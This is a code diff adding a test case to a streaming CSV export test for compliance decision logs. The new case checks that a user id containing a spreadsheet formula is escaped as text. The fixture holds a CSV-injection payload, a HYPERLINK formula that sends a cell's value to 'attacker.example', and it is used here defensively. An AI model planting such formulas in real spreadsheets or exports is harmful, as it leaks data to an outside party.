@@ -18,6 +18,7 @@ const ROWS = 200_000;
 const DAY = '2026-06-13';
 const HEAP_SAMPLE_EVERY_BYTES = 8_000_000;
 const AWKWARD_USER = 'user, "quoted"\nsecond line';
+const FORMULA_USER = '=HYPERLINK("https://attacker.example/?leak="&A1,"open")';
 
 /** A streaming RFC 4180 reader: feeds records to `onRecord` as chunks arrive, keeping only the record being read. */
 class CsvRecordReader {
@@ -91,11 +92,15 @@ describe('compliance reports: the decision-log export streams', () => {
       clientIp: null, country: null, allow: false, reasons: [], licenseId: null, dataVersions: '{"note":"a,b"}',
     });
     writer.record({
+      id: 'd-formula', decidedAt: Date.parse(`${DAY}T12:00:00.6Z`), position: 3, partnerId: 'p-formula', userId: FORMULA_USER, model: 'mythos-5',
+      clientIp: null, country: null, allow: false, reasons: [], licenseId: null, dataVersions: '{}',
+    });
+    writer.record({
       id: 'd-outside', decidedAt: start - 0.001, position: 2, partnerId: 'p-1', userId: 'u-before', model: 'mythos-5',
       clientIp: null, country: null, allow: true, reasons: [], licenseId: null, dataVersions: '{}',
     });
     await writer.flush();
-    expect(writer.written).toBe(ROWS + 2);
+    expect(writer.written).toBe(ROWS + 3);
   }, 120_000);
 
   afterAll(async () => {
@@ -117,7 +122,7 @@ describe('compliance reports: the decision-log export streams', () => {
     const heapBefore = process.memoryUsage().heapUsed;
     const reader = new CsvRecordReader((record) => {
       rows++;
-      if (rows <= 3 || record[0] === 'd-awkward' || record[0] === 'd-0200000') records.push(record);
+      if (rows <= 3 || ['d-awkward', 'd-formula', 'd-0200000'].includes(record[0])) records.push(record);
     });
     const decoder = new TextDecoder();
     for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) {
@@ -138,8 +143,8 @@ describe('compliance reports: the decision-log export streams', () => {
     expect(result.response.status).toBe(200);
     expect(result.response.headers.get('content-type')).toMatch(/^text\/csv/);
     expect(result.response.headers.get('content-disposition')).toMatch(/^attachment; filename="decisions-20260613T000000Z-20260613T235959Z\.csv"$/);
-    // Header + every generated row + the awkward one; the row a microsecond before the range is not there.
-    expect(result.rows).toBe(1 + ROWS + 1);
+    // Header + every generated row + the awkward and the formula ones; the row a microsecond before the range is not there.
+    expect(result.rows).toBe(1 + ROWS + 2);
     const [header, first, second] = result.records;
     expect(header).toEqual(['decisionId', 'decidedAt', 'position', 'partnerId', 'userId', 'model', 'clientIp', 'country', 'allow', 'reasons', 'licenseId', 'dataVersions']);
     expect(first.slice(0, 11)).toEqual(['d-0000001', '2026-06-13T00:00:00.000Z', '1', 'p-1', 'u-1', 'fable-5', '203.0.113.1', 'US', 'true', '', 'lic-1']);
@@ -150,6 +155,8 @@ describe('compliance reports: the decision-log export streams', () => {
     ]);
     // Commas, quotes and a line break survive quoting; no reasons is an empty field.
     expect(result.records.find((r) => r[0] === 'd-awkward')).toEqual(['d-awkward', '2026-06-13T12:00:00.500Z', '1', 'p-awkward', AWKWARD_USER, 'mythos-5', '', '', 'false', '', '', '{"note":"a,b"}']);
+    // An end user's id that a spreadsheet would run as a formula is written as text (an apostrophe before it).
+    expect(result.records.find((r) => r[0] === 'd-formula')!.slice(3, 6)).toEqual(['p-formula', `'${FORMULA_USER}`, 'mythos-5']);
     // ~80 MB of CSV went through; memory held at any moment is a page or two, not the export.
     expect(result.bytes).toBeGreaterThan(60_000_000);
     expect(result.heapGrowth).toBeLessThan(16 * 1024 * 1024);
